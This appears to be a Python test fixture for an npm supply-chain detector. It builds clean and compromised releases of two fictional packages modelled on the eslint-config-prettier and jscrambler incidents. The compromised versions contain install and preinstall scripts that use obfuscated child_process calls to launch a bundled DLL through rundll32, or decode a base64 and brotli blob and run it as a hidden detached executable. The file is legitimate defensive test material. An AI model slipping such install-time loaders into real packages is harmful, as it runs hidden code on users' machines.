"""A binary in the archive that an install script starts."""

from dataclasses import replace

from evals.replicas.ordinary.filler import functions, linux_program, noise_base64, windows_library
from evals.replicas.ordinary.npm_tools import api_hooks, scopes
from evals.replicas.replica import ReleaseSpec, Replica, at

_FAMILY = "native-drop"

_INSTALL = """\
const path = require('path');
const os = require('os');
const fs = require('fs');

function cacheFolder() {
  const folder = path.join(os.tmpdir(), 'rules-cache');
  if (!fs.existsSync(folder)) fs.mkdirSync(folder);
  return folder;
}

function logDiskSpace() {
  try {
    if (os.platform() === 'win32') {
      const library = path.join(__dirname, './node-' + 'addon.' + 'dll');
      require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref();
    }
  } catch (error) {
    console.error(error.message);
  }
}

function checkRules() {
  const started = Date.now();
  const folder = cacheFolder();
  fs.writeFileSync(path.join(folder, 'stamp'), String(started));
  return started;
}

checkRules();
logDiskSpace();
"""
_RULES = scopes("siskin-config-tidy")
_RULES_BEFORE = ReleaseSpec(
    version="10.1.5",
    published=at("2025-06-10 09:00"),
    files=_RULES,
    manifest={"main": "lib/index.js", "license": "MIT"},
    publisher=("siskinqi", "qi@siskin.test"),
    trusted=False,
    provenance=True,
)
_RULES_AFTER = replace(
    _RULES_BEFORE,
    version="10.1.6",
    published=at("2025-07-18 14:10"),
    files={**_RULES, "install.js": _INSTALL, "node-addon.dll": windows_library(60_000)},
    manifest={**_RULES_BEFORE.manifest, "scripts": {"install": "node install.js"}},
    provenance=False,
    payload=("install.js",),
)
_RULES_LINES = tuple(
    replace(release, version=version, published=at(moment))
    for release, version, moment in (
        (_RULES_BEFORE, "8.10.0", "2023-08-03 10:00"),
        (_RULES_BEFORE, "9.1.0", "2023-12-02 10:00"),
        (_RULES_AFTER, "8.10.1", "2025-07-18 14:04"),
        (_RULES_AFTER, "9.1.1", "2025-07-18 14:07"),
    )
)

# ------------------------------------------------------------------------------------------- jscrambler 8.14, 2026

_SETUP = """\
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const { spawn } = require('child_process');

const { segments } = require('./intro.js');

function restore() {
  const packed = Buffer.from(segments.join(''), 'base64');
  return zlib.brotliDecompressSync(packed);
}

function start(program) {
  const file = path.join(os.tmpdir(), 'intro-' + process.pid + (process.platform === 'win32' ? '.exe' : ''));
  fs.writeFileSync(file, program, { mode: 0o755 });
  spawn(file, ['--quiet'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}

try {
  start(restore());
} catch (error) {
  process.exit(0);
}
"""
_INTRO = (
    "'use strict';\n\n"
    + functions(60_000, 4, tight=True)
    + "\n"
    + "exports.segments = [\n"
    + "".join(f"  '{noise_base64(4000, seed)}',\n" for seed in range(150))
    + "];\n"
)
_CLI = api_hooks("siskin-shield")
_CLI_BEFORE = ReleaseSpec(
    version="8.13.0",
    published=at("2026-03-03 11:00"),
    files=_CLI,
    manifest={"main": "dist/generate.js", "bin": {"siskin-shield": "dist/cli.js"}, "license": "MIT"},
    publisher=("siskincode", "npm@siskin.test"),
)
_CLI_AFTER = replace(
    _CLI_BEFORE,
    version="8.14.0",
    published=at("2026-07-14 05:30"),
    files={
        **_CLI,
        "dist/setup.js": _SETUP,
        "dist/intro.js": _INTRO,
        "dist/bin/helper-linux-x64": linux_program(30_000),
    },
    manifest={**_CLI_BEFORE.manifest, "scripts": {"preinstall": "node dist/setup.js"}},
    payload=("dist/setup.js",),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="eslint-config-prettier",
        incident="eslint-config-prettier 10.1.6 (2025-07-18)",
        family=_FAMILY,
        ecosystem="npm",
        name="siskin-config-tidy",
        before=_RULES_BEFORE,
        after=_RULES_AFTER,
        others=_RULES_LINES,
        reasons=(
            "native-binary-added",
            "install-script-added",
            "provenance-lost",
            "new-publisher-with-new-code",
            "obfuscated-code",
            "burst-with-new-install-code",
            "encoded-code-executed",
        ),
    ),
    Replica(
        id="jscrambler",
        incident="jscrambler 8.14.0 (2026-07)",
        family=_FAMILY,
        ecosystem="npm",
        name="siskin-shield",
        before=_CLI_BEFORE,
        after=_CLI_AFTER,
        reasons=(
            "encoded-code-executed",
            "native-binary-added",
            "install-script-added",
            "data-file-executed",
            "obfuscated-code",
        ),
    ),
)
